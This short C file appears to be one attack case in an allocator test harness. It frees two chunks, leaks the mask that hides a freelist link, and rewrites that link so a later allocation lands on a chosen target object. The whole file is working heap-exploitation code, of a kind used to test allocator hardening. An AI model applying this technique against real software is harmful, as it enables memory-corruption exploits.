/* cache_leak.c - as cache_poison, but the attacker can read the freed chunk as well, and
 * knows which chunk its link leads to: so he learns whatever the link was hidden with. */
#include "attack.h"

static void poison(size_t n)
{
    void *a = take(n), *b = take(n);
    wall();
    prey.words[1] = size_of(b) | P;
    give(a);
    give(b);
    size_t mask = peek(b, 0) ^ (size_t)a;
    poke(b, 0, mask ^ prey_at(2));
    go_on(n, 3000);
}

static void small(void) { poison(SMALL); }
static void middle(void) { poison(MIDDLE); }

ATTACK(small, middle)
